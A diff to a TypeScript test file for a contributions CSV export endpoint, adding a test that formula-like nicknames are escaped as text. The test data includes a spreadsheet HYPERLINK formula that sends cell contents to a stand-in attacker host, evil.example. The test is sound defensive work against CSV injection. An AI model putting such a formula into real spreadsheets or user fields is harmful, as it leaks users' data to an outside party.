@@ -1,13 +1,14 @@
 import { afterEach, describe, expect, it, vi } from 'vitest';
 import { db } from '../db';
 import { ADMIN_ID, call, RAW_BASE } from '../testing';
-import { issueTokens } from '../tokens';
+import { testTokens } from '../token-testing';
 import type { Page } from './contributions.test-helpers';
+import { FORMULA_START, parseCsv } from '../csv.test-helpers';
 
 /** The export as bytes, the way a browser receives it. */
 async function exportCsv(query = '') {
   const response = await fetch(`${RAW_BASE}/finance/contributions/export${query}`, {
-    headers: { Authorization: `Bearer ${issueTokens(ADMIN_ID).accessToken}` },
+    headers: { Authorization: `Bearer ${testTokens(ADMIN_ID).accessToken}` },
   });
   return { response, bytes: new Uint8Array(await response.arrayBuffer()) };
 }
@@ -94,5 +95,24 @@ describe('GET /finance/contributions/export', () => {
     );
     const bad = await exportCsv('?status=paid');
     expect(bad.response.status).toBe(422);
+  });
+
+  it('opens a nickname written as a formula as text, and no cell of the export starts a formula', async () => {
+    const row = db.contributions.find((c) => c.status === 'succeeded')!;
+    const user = db.users.find((u) => u.id === row.userId)!;
+    user.nickname = '=HYPERLINK("http://evil.example/?leak="&A1,"Подробнее")';
+    const other = db.contributions.find((c) => c.userId !== user.id)!;
+    db.users.find((u) => u.id === other.userId)!.nickname = '-2+3';
+    const { bytes } = await exportCsv();
+    const text = new TextDecoder().decode(bytes);
+    const line = text.split('\r\n').find((l) => l.startsWith(`${row.id};`))!;
+    expect(line.split(';')[2]).toBe(
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Подробнее"")"`,
+    );
+    const cells = parseCsv(text);
+    expect(cells.find((cells) => cells[0] === String(row.id))![2]).toBe(`'${user.nickname}`);
+    expect(cells.find((cells) => cells[0] === String(other.id))![2]).toBe("'-2+3");
+    expect(cells.length).toBe(db.contributions.length + 1);
+    expect(cells.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
   });
 });
